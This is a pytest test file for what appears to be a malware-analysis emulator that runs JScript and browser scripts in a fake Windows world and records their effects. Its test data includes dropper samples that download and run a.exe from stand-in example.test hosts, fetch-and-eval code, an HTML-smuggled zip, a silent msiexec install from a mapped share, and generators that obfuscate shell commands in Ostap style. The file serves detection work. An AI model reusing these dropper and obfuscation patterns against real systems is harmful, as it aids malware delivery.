"""JScript: what scripts do in the fake world, what they are not able to do, and what ends them."""

from __future__ import annotations

import random

import pytest

from emoscan.budget import Budget, LimitReached, Limits
from emoscan.evaluate.jscript.engine import Engine, OutOfTime
from emoscan.evaluate.jscript.run import Element, Script, evaluate
from emoscan.model import Child, Fact


def run(*blocks, elements=None, seconds=30, **limits):
    found = []
    evaluate(Script(blocks, "a.js", "\n".join(blocks).encode(), elements), Budget(Limits(seconds=seconds, **limits)), found.append)
    return found


def effects(found, kind):
    return [item.value for item in found if isinstance(item, Fact) and item.kind == f"effect.{kind}"]


def said(source, **options):
    return effects(run(source, **options), "dialog")


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("WScript.Echo(1, 'b', true, 1.5)", "1 b True 1.5"),
        ("WScript['Ec' + 'ho'](WScript.ScriptName)", "a.js"),
        ("wscript = WScript; wscript.echo(typeof ActiveXObject)", "function"),
        ("var s = new ActiveXObject('wscript.SHELL'); WScript.Echo(s.ExpandEnvironmentStrings('%windir%'))", r"C:\WINDOWS"),
        ("var s = new ActiveXObject('WScript.Shell'); WScript.Echo(s.SpecialFolders('Desktop'))", r"C:\Users\tanaka\Desktop"),
        ("var s = new ActiveXObject('WScript.Shell'); WScript.Echo(s.Environment('PROCESS')('TEMP').length > 5)", "True"),
        (
            "var d = new ActiveXObject('Scripting.Dictionary'); d.Item('a') = 5; d('b') = 6; WScript.Echo(d('a') + d.Item('b'), d.Count)",
            "11 2",
        ),
        ("var d = new ActiveXObject('Scripting.Dictionary'); d.add('a', 5); WScript.Echo(new VBArray(d.Keys()).toArray().join())", "a"),
        (
            "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a.example.test/', 0); x.send(); WScript.Echo(x.status === 200)",
            "True",
        ),
        (
            "try { new ActiveXObject('No.Such') } catch (e) { WScript.Echo(e.number & 0xffff, e.description) }",
            "429 ActiveX component can't create object",
        ),
        ("try { f() } catch (e) { WScript.Echo(e.description) }", "f is not defined"),
        ("WScript.Echo(ScriptEngine(), ScriptEngineMajorVersion())", "JScript 5"),
        (
            "for (var e = new Enumerator(GetObject('winmgmts:').ExecQuery('select * from Win32_OperatingSystem')); !e.atEnd(); e.moveNext()) WScript.Echo(e.item().OSArchitecture)",
            "64 ビット",
        ),
        ("WScript.Echo(new Date().getFullYear(), Math.random() == Math.random())", "2021 False"),
        ("var o = {}; function o.f(n) { return n + 1 } WScript.Echo(o.f(1))", "2"),
        ("/*@cc_on @if (@_jscript) WScript.Echo('on') @end @*/", "on"),
        # layers: eval sees the variables around it, whatever it is called through it is recorded
        ("(function () { var z = 5; eval('var q = z + 1'); WScript.Echo(q) })()", "6"),
        ("var e = eval; e('WScript.Echo(\"e\")')", "e"),
        ("this['ev' + 'al']('WScript.Echo(\"t\")')", "t"),
        ("new Function('a', 'WScript.Echo(a)')(7)", "7"),
        ("(function () {}).constructor('WScript.Echo(8)')()", "8"),
        ("WScript.Echo('\\ud800a'.length)", "2"),
        (
            "var f = new ActiveXObject('Scripting.FileSystemObject'); WScript.Echo(f.OpenTextFile(WScript.ScriptFullName).ReadAll().length > 9)",
            "True",
        ),
        ("var r = new ActiveXObject('VBScript.RegExp'); r.Pattern = 'b+'; r.Global = true; WScript.Echo(r.Replace('abba', 'x'))", "axa"),
    ],
)
def test_what_scripts_say(source, text):
    assert said(source) == [text]


def test_a_dropper():
    source = """
    var urls = ["http://a.example.test/1", "http://b.example.test/2"], shell = WScript.CreateObject("WScript.Shell");
    for (var i = 0; i < urls.length; i++) {
      try {
        var x = new ActiveXObject("MSXML2.ServerXMLHTTP"); x.open("GET", urls[i], false); x.send();
        if (x.status == 200 && x.responseBody.length > 1000) {
          var s = new ActiveXObject("ADODB.Stream"); s.open(); s.type = 1; s.write(x.responseBody);
          s.saveToFile("C:\\\\Users\\\\Public\\\\a.exe", 2); s.close();
          shell.run("C:\\\\Users\\\\Public\\\\a.exe"); break;
        }
      } catch (e) {}
    }
    WScript.Quit(); shell.run("never");
    """
    found = run(source)
    assert effects(found, "run") == [r"C:\Users\Public\a.exe"]
    # the second address is tried when the first one fails, in a run of its own
    assert list(dict.fromkeys(effects(found, "download"))) == ["http://a.example.test/1", "http://b.example.test/2"]


def test_what_was_fetched_and_is_run_is_recorded():
    found = run(
        "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a.example.test/', false); x.send(); eval(x.responseText)"
    )
    assert effects(found, "eval") == ["<Unknown: content of http://a.example.test/>"]


def test_unknown_text_keeps_its_reason_through_what_is_put_around_it():
    found = run(
        "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a.example.test/', false); x.send();"
        "new ActiveXObject('WScript.Shell').Run('cmd /c ' + x.responseText + ' b')"
    )
    assert effects(found, "run") == ["cmd /c <Unknown: content of http://a.example.test/> b"]


def test_a_short_text_that_runs_often_is_one_layer():
    text = "total = total + 1; /* forty characters and a few more */"
    found = run(f"var total = 0; for (var i = 0; i < 5000; i++) eval('{text}'); WScript.Echo(total)")
    assert [item.value for item in found if isinstance(item, Fact) and item.kind == "effect.eval"] == [text]
    assert any(isinstance(item, Fact) and item.value == "5000" for item in found)


def test_layers_become_artifacts():
    found = run("eval('var a = 1; /* " + "long enough to be a layer " * 3 + "*/')")
    layers = [item for item in found if isinstance(item, Child)]
    assert [(layer.kind, layer.how, layer.label) for layer in layers] == [("script.js", "eval", "text run as code")]


def test_what_it_writes_becomes_an_artifact():
    found = run("var f = new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('c:\\\\a.bat'); f.Write('echo 1'); f.Close()")
    assert [(item.label, item.data) for item in found if isinstance(item, Child) and item.label != "simplified"] == [
        ("c:\\a.bat", b"echo 1")
    ]


# ---------------------------------------------------------------- pages


def test_a_page_that_puts_a_file_together():
    source = """
    var bytes = atob(document.getElementById('d').innerText), a = new Uint8Array(bytes.length);
    for (var i = 0; i < a.length; i++) a[i] = bytes.charCodeAt(i);
    var link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob([a], {type: 'application/zip'})); link.download = 'invoice.zip'; link.click();
    """
    found = run(source, elements=(Element("div", {"id": "d"}, "UEsDBAA="),))
    assert [(item.label, item.data) for item in found if isinstance(item, Child)] == [("invoice.zip", b"PK\x03\x04\x00")]


@pytest.mark.parametrize(
    "source",
    [
        "navigator.msSaveOrOpenBlob(new Blob(['abc']), 'a.iso')",
        "window.onload = function () { setTimeout(function () { navigator.msSaveBlob(new Blob(['a', 'bc']), 'a.iso') }, 10) }",
        "document.addEventListener('DOMContentLoaded', function () { window['navigator']['msSaveBlob'](new Blob(['abc']), 'a.iso') })",
        "var s = document.createElement('script'); s.text = \"navigator.msSaveBlob(new Blob(['abc']), 'a.iso')\"; document.body.appendChild(s)",
        "Promise.resolve('abc').then(function (t) { navigator.msSaveBlob(new Blob([t]), 'a.iso') })",
        "var l = document.createElement('a'); l.setAttribute('href', 'data:application/octet-stream;base64,YWJj'); l.setAttribute('download', 'a.iso'); l.click()",
    ],
)
def test_ways_to_save_a_file(source):
    assert [(item.label, item.data) for item in run(source, elements=()) if isinstance(item, Child) and item.label == "a.iso"] == [
        ("a.iso", b"abc")
    ]


def test_pages_write_pages_and_go_elsewhere():
    found = run("document.write('<b>' + 'x</b>'); window.location.href = 'http://a.example.test/'", elements=())
    assert [(item.kind, item.data) for item in found if isinstance(item, Child)] == [("text.html", b"<b>x</b>")]
    assert effects(found, "open") == ["http://a.example.test/"]


# ---------------------------------------------------------------- what scripts must not do


@pytest.mark.parametrize(
    "name", ["$host", "$part", "$intrinsic", "process", "require", "std", "os", "console", "fetch", "load", "print", "Worker"]
)
def test_a_script_of_the_host_has_nothing_but_our_stand_ins(name):
    assert said(f"WScript.Echo(typeof {name})") == ["undefined"]


def test_handles_cannot_be_forged_into_python_objects():
    source = """
    var w = WScript, out = [];
    var names = ['__class__', '__dict__', 'data', 'cls', '__init__', 'constructor', '__proto__'];
    for (var i = 0; i < names.length; i++) { try { out.push(String(w[names[i]]).slice(0, 9)) } catch (e) { out.push('e') } }
    w.Echo(out.join('').indexOf('emoscan'));
    """
    assert said(source) == ["-1"]


@pytest.mark.parametrize(
    "source",
    [
        "for (;;) ;",
        "for (;;) { try { for (;;) ; } catch (e) {} }",
        "var s = 'a'; for (;;) s += s",
        "var a = []; for (;;) a.push(new Array(1000).join('x'))",
        "function f() { f() } for (;;) { try { f() } catch (e) {} }",
        "/(a+)+$/.test(new Array(40).join('a') + 'b')",
        "for (;;) { try { WScript.CreateObject('WScript.Shell').Run('a' + Math.random()) } catch (e) {} }",
        "for (;;) { try { WScript.Sleep(9) } finally { continue } }",
        "var o = new ActiveXObject('Scripting.Dictionary'); for (var i = 0; ; i++) o.Add('k' + i, new Array(9999).join('x'))",
        "var c = 'eval(c)'; for (;;) { try { eval(c) } catch (e) {} }",
    ],
)
def test_endless_scripts_end(source):
    found = []
    try:
        evaluate(Script((source,), "a.js"), Budget(Limits(seconds=0.8, memory_bytes=192 << 20)), found.append)
    except LimitReached:
        return
    assert any(not isinstance(item, (Fact, Child)) for item in found)


def test_deep_recursion_is_an_error_of_the_script():
    found = run("function f() { return f() + 1 } try { f() } catch (e) { WScript.Echo('deep') }")
    assert effects(found, "dialog") == ["deep"]


def test_the_time_limit_holds_although_python_is_called():
    """What the engine relies on of the binding: see engine.py."""
    calls = []

    def host(*_):
        calls.append(1)
        return "ok"

    engine = Engine(host, 64 << 20, 0.3)
    assert engine.run("$host('a', 'b')") == "ok"
    with pytest.raises(OutOfTime):
        engine.run("for (;;) { try { $host('a', 'b'); for (;;) ; } catch (e) {} }")
    assert len(calls) == 2


def test_a_stop_from_python_ends_a_script_that_catches_everything():
    def host(*_):
        engine.stop()
        return "stopped"

    engine = Engine(host, 64 << 20, 600)
    with pytest.raises(OutOfTime):
        engine.run("for (;;) { try { $host('a', 'b') } catch (e) {} }")


# ---------------------------------------------------------------- obfuscation, both ways


def split_in_pieces(dice, text):
    pieces, at = [], 0
    while at < len(text):
        size = dice.randint(1, 4)
        pieces.append(repr(text[at : at + size]))
        at += size
    return "+".join(pieces)


def from_codes(dice, text):
    key = dice.randint(1, 200)
    return f"(function(a){{var s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^{key});return s}})([{','.join(str(ord(c) ^ key) for c in text)}])"


def reversed_text(dice, text):
    return f"{text[::-1]!r}.split('').reverse().join('')"


def escaped_text(dice, text):
    return "'" + "".join(f"\\x{ord(c):02x}" if dice.random() < 0.5 else f"\\u{ord(c):04x}" for c in text) + "'"


def percent_text(dice, text):
    return "unescape('" + "".join(f"%{ord(c):02x}" for c in text) + "')"


def one_character_a_function(dice, text):
    """As the Ostap downloader has it: thousands of functions that each give a character."""
    names = [f"f{dice.randrange(1 << 40)}_{i}" for i in range(len(text))]
    return (
        "(function(){"
        + "".join(f"function {n}(){{return {c!r}}}" for n, c in zip(names, text))
        + "return "
        + "+".join(f"{n}()" for n in names)
        + "})()"
    )


FAMILIES = [split_in_pieces, from_codes, reversed_text, escaped_text, percent_text, one_character_a_function]


@pytest.mark.parametrize("seed", range(24))
def test_obfuscated_scripts_give_their_command(seed):
    dice = random.Random(seed)
    command = "cmd /c start http://" + "".join(dice.choice("abcdefgh") for _ in range(8)) + ".example.test/" + str(seed)
    text = dice.choice(FAMILIES)(dice, command)
    code = f"new ActiveXObject({dice.choice(FAMILIES)(dice, 'WScript.Shell')})[{dice.choice(FAMILIES)(dice, 'Run')}]({text}, 0)"
    for _ in range(dice.randrange(3)):
        wrapped = dice.choice(FAMILIES)(dice, code)
        code = dice.choice([f"eval({wrapped})", f"new Function({wrapped})()", f"this['ev'+'al']({wrapped})", f"var e=eval;e({wrapped})"])
    assert effects(run(code), "run") == [command]


def test_a_script_of_megabytes():
    dice = random.Random(1)
    junk = "".join(f"function g{n}(){{return {dice.randrange(1 << 30)}}}\n" for n in range(40_000))
    command = one_character_a_function(dice, "a.example.test")
    assert said(f"{junk}WScript.Echo({command})") == ["a.example.test"]


def test_an_address_that_must_not_be_there():
    source = """
    function ask(url) { var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", url, false); x.send(); return x.status == 200 }
    while (ask("http://nobody.example.test/")) { }
    if (ask("http://files.example.test/a.exe")) new ActiveXObject("WScript.Shell").Run("a.exe");
    """
    found = []
    with pytest.raises(LimitReached):
        evaluate(Script((source,), "a.js"), Budget(Limits(seconds=30)), found.append)
    assert effects(found, "run") == ["a.exe"]


def test_a_zero_in_the_source_is_a_character_of_a_text():
    assert said('var a = "x\0y"; WScript.Echo(a.length)') == ["3"]


def test_text_that_is_read_without_parentheses_is_read_at_once():
    """As in the reader of binary files that goes around: `stream.ReadText` stands before `stream.Close()`, and its value is used after that."""
    found = run(
        "var s = new ActiveXObject('ADODB.Stream'); s.Type = 2; s.Charset = '437'; s.Open(); s.WriteText('a.exe'); s.Position = 0;"
        "var text = s.ReadText; s.Close(); new ActiveXObject('WScript.Shell').Run(text);"
    )
    assert effects(found, "run") == ["a.exe"]


def test_a_drive_that_was_connected_leads_to_its_share():
    found = run(
        "var n = new ActiveXObject('WScript.Network'); n.MapNetworkDrive('Z:', '\\\\\\\\files.example.test@80\\\\a\\\\');"
        "new ActiveXObject('WScript.Shell').Run('msiexec /i Z:\\\\b.msi /qn http://c:80/');"
    )
    assert [item.data for item in found if isinstance(item, Child) and item.kind == "script.cmd"] == [
        rb"msiexec /i \\files.example.test@80\a\b.msi /qn http://c:80/"
    ]


def test_commands_know_the_variables_the_script_set():
    found = run(
        "var e = new ActiveXObject('WScript.Shell').Environment('Process'); e('QQ') = \"it's\";"
        "new ActiveXObject('WScript.Shell').Run('cmd /c echo %qq% & powershell -c $env:QQ')"
    )
    assert [item.data for item in found if isinstance(item, Child) and item.kind == "script.cmd"] == [
        b"cmd /c echo it's & powershell -c 'it''s'"
    ]


def test_inside_with_only_members_of_the_object_are_its_own():
    found = run("var o = {b: 'a.exe'}; with (new ActiveXObject('WScript.Shell')) { Run(o.b, 0); }")
    assert effects(found, "run") == ["a.exe"]


def decoding(state):
    """A script that keeps its texts in reverse, and tries three addresses. `state`: a statement in its decoder."""
    junk = "".join(f"var j{number} = r('{number}x');\n" for number in range(60))
    hosts = "".join(f"r('/tset.elpmaxe.{host}//:ptth'), " for host in "abc")
    return (
        f"var k = 0, calls = 0;\nfunction r(t) {{ calls++; {state} return t.split('').reverse().join('') }}\n{junk}"
        f"var x = new ActiveXObject(r('PTTHLMX.2LMXSM')), hosts = [{hosts}''];\n"
        "for (var i = 0; i < 3; i++) { try { x.open(r('TEG'), hosts[i], 0); x.send();\n"
        "if (x.status == 200) { new ActiveXObject(r('llehS.tpircSW')).Run('calc ' + calls); break } } catch (e) {} }"
    )


@pytest.mark.parametrize(
    ("state", "ends"),
    [("", ("test/", "test/", "test/")), ("k++; if (k > 60) t = t.replace('tset', k + 'tset'); ", ("test26/", "test36/", "test46/"))],
)
def test_a_script_that_decodes_many_texts_tries_all_addresses(state, ends):
    """Also where what the decoder gives depends on how often it was called: texts known from the first run are of no use then."""
    found = run(decoding(state))
    assert effects(found, "download") == [f"http://{host}.example.{end}" for host, end in zip("abc", ends, strict=True)]
    assert effects(found, "run") == ["calc 66"]


@pytest.mark.parametrize(
    ("written", "text"), [("YWJj", "abc"), ("YW Jj\\n", "abc"), ("YWI=", "ab"), ("YQ", "a"), ("YWJjZ", "abc"), ("Y!Q=", "none"), ("", "")]
)
def test_base64_of_scripts(written, text):
    assert said(f"var t; try {{ t = atob('{written}') }} catch (e) {{ t = 'none' }} WScript.Echo(t)") == [text]


@pytest.mark.parametrize(
    "text",
    [
        "new ActiveXObject('Scripting.FileSystemObject').OpenTextFile('C:\\\\pub\\\\b.js', 1).ReadAll()",
        "(s = new ActiveXObject('ADODB.Stream'), s.Type = 2, s.Open(), s.LoadFromFile('C:\\\\pub\\\\b.js'), s.ReadText())",
    ],
)
def test_a_file_that_is_not_here_is_told_by_its_name(text):
    assert effects(run(f"var s; eval({text})"), "eval") == ["<Unknown: content of file C:\\pub\\b.js>"]


def test_a_file_that_is_not_here_changes_nothing_where_the_script_does_without():
    source = "try { new ActiveXObject('Scripting.FileSystemObject').OpenTextFile('a.ini') } catch (e) { WScript.Echo('none') }"
    assert "none" in said(source)
